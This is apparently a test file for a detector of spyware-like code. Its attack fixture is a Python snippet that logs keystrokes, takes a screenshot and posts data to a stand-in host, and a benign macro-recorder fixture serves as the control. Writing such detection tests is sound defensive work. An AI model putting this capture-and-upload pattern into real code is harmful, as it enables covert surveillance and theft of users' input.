import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-watching.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test('attack: keys and screen', async () => {
  const code =
    'from pynput import keyboard\nimport mss, requests\nkeyboard.Listener(on_press=print).start()\nmss.mss().shot()\nrequests.post("https://c.invalid", data="x")'
  expect(await seen({ 'a.py': code })).toEqual(['decisive 12 a.py:3'])
})

test('innocent: a recorder of macros', async () => {
  const code =
    'from pynput import keyboard\nimport mss\nkeyboard.Listener(on_press=print).start()\nmss.mss().shot()'
  expect(await seen({ 'a.py': code })).toEqual([])
})
